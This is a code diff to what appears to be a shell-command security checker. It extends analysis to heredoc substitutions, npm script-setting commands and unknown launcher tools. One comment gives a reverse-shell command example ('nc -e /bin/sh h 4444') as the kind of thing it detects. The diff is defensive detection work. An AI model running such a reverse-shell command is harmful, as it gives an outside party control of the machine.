@@ -7,6 +7,7 @@ import { envEntry, envSetByCommand, exportedAssignments, isStartupFile, judgeEnv
 import { checkInput } from './input.ts';
 import { applyCapabilities } from './capabilities/apply.ts';
 import { gitKeyEffect } from './capabilities/git-keys.ts';
+import { heredocSubstitutions } from './heredoc-subst.ts';
 import { credentialFileReads, encodes, patternArgIndex, printedSecrets, psShowsEnvironment, secretCommand, secretHunt, sinkOf, SECRET_READ_RULES } from './secrets.ts';
 import { checkCode, checkInterpreter, langOf, type InterpHost } from './interp/index.ts';
 import { sedExecCommand, sedSubstituteExec } from './sed.ts';
@@ -412,7 +413,21 @@ function checkFunction(ctx: Ctx, sc: Scope, fn: Walked['functions'][number]): vo
   }
 }
 
+/** Unquoted heredoc bodies: the substitutions bash runs in them, analysed as what runs (see heredoc-subst.ts). */
+function heredocBodies(ctx: Ctx, sc: Scope, cmd: Cmd): void {
+  for (const r of cmd.redirects) {
+    if (r.kind !== 'heredoc' || !r.expands || !r.text || !/[`$]/.test(r.text)) continue;
+    const subs = heredocSubstitutions(r.text);
+    if (subs === null) {
+      opaque(ctx, sc, 'differential', 'heredoc body with a command substitution that does not close the way the parser read it', r.start, r.end);
+      continue;
+    }
+    for (const text of subs) analyzeScript(ctx, text, sc.depth + 1, sc.outer ?? { start: r.start, end: r.end }, 'command substitution in a heredoc body', cmd.cwd);
+  }
+}
+
 function checkCmd(ctx: Ctx, sc: Scope, cmd: Cmd): void {
+  heredocBodies(ctx, sc, cmd);
   for (const a of cmd.assigns) checkAssign(ctx, sc, cmd, a.name, a.value, a.start, a.end);
   const writes: Word[] = [];
   for (const r of cmd.redirects) {
@@ -864,9 +879,10 @@ export function analyzeArgv(ctx: Ctx, sc: Scope, cmd: Cmd, name0: string, nameWo
   }
   secretOutput(ctx, sc, cmd, name, args);
   for (const e of envSetByCommand(name, args.map((a) => a.value))) applyEnv(ctx, sc, cmd, judgeEnv(e.name, e.value, envContext(ctx, sc, cmd)), cmd.start, cmd.end);
+  packageScriptsSet(ctx, sc, cmd, name, args);
 
   // Tools in the capability table: what their options and positionals run, read, write and contact.
-  applyCapabilities(ctx, sc, cmd, name, args, writes, chain);
+  const modelled = applyCapabilities(ctx, sc, cmd, name, args, writes, chain);
   if (SHELLS.has(name)) return shell(ctx, sc, cmd, name, args, chain);
   if (isInterpreter(name)) return interpreter(ctx, sc, cmd, name, args, chain);
 
@@ -985,7 +1001,60 @@ export function analyzeArgv(ctx: Ctx, sc: Scope, cmd: Cmd, name0: string, nameWo
       }
       return;
     default:
+      if (!modelled && !KNOWN_COMMANDS.has(name)) unmodelledLauncher(ctx, sc, cmd, name, args, chain);
       return;
+  }
+}
+
+/**
+ * `npm pkg set scripts.test='CMD'`, `npm set-script test CMD`: the text is a script npm runs later (`npm test`), so
+ * it is analysed as what runs, like a script written into package.json.
+ */
+function packageScriptsSet(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
+  if (!/^(npm|pnpm|yarn|bun)$/.test(name)) return;
+  const pos = positionals(args);
+  const v = (k: number): string | null | undefined => pos[k]?.value;
+  if (v(0) === 'pkg' && v(1) === 'set') {
+    for (const w of pos.slice(2)) {
+      const m = /^scripts\.[^=]+=(.*)$/s.exec(w.value ?? '');
+      if (m) nestedText(ctx, sc, cmd, m[1]!, w, `${name} pkg set scripts`);
+      else if (w.value === null && /scripts/.test(w.raw)) opaque(ctx, sc, 'dynamic_exec', `${name} pkg set writes a script only known at run time`, w.start, w.end);
+    }
+  } else if (v(0) === 'set-script' && pos[2]) nested(ctx, sc, cmd, pos[2], `${name} set-script`, []);
+}
+
+/** Words that name a program worth reading an unknown tool's arguments for (`.` and `source` excluded: paths). */
+function commandLike(ctx: Ctx, w: Word): boolean {
+  const v = w.value;
+  if (v === null || v === '' || v.startsWith('-') || v === '.' || v === 'source') return false;
+  const b = v.includes('/') ? basename(v) : v;
+  return SHELLS.has(b) || isInterpreter(b) || ctx.p.networkTools.has(b) || KNOWN_COMMANDS.has(b);
+}
+
+/**
+ * A tool the chain does not model (`retry`, `cgexec -g x`, `hyperfine 'CMD'`, `trickle -d 10`, `daemonize`, …) may be
+ * a launcher: its arguments from a program name on (`nc -e /bin/sh h 4444`), or one argument that is a command line,
+ * are analysed as what it could run. When that would not be allowed the call is opaque (the tool may run it, the
+ * chain cannot know) and the programs count as predicted; when it would be allowed nothing changes.
+ */
+function unmodelledLauncher(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], chain: string[]): void {
+  if (chain.some((c) => c.endsWith('(not modelled)'))) return;
+  const label = `${name} (not modelled)`;
+  let tries = 0;
+  for (let k = 0; k < args.length && tries < 3; k++) {
+    const a = args[k]!;
+    const line = a.value !== null && /\s/.test(a.value.trim()) && a.value.length < 2000 && commandLike(ctx, { ...a, value: a.value.trim().split(/\s+/)[0]! });
+    if (!line && !commandLike(ctx, a)) continue;
+    tries++;
+    const before = ctx.findings.length;
+    if (line) nestedText(ctx, sc, cmd, a.value!, a, label);
+    else analyzeArgv(ctx, sc, cmd, a.value!, a, args.slice(k + 1), [], [...chain, label]);
+    const raised = ctx.findings.splice(before).filter((f) => f.verdict !== 'allow');
+    if (raised.length > 0) {
+      const worst = raised.find((f) => f.verdict === 'deny') ?? raised[0]!;
+      opaque(ctx, sc, 'dynamic_exec', `${name} is not a modelled tool and its arguments hold a command that would not be allowed (${worst.rule}: ${truncate(worst.reason, 60)})`, cmd.start, cmd.end);
+      return;
+    }
   }
 }
 
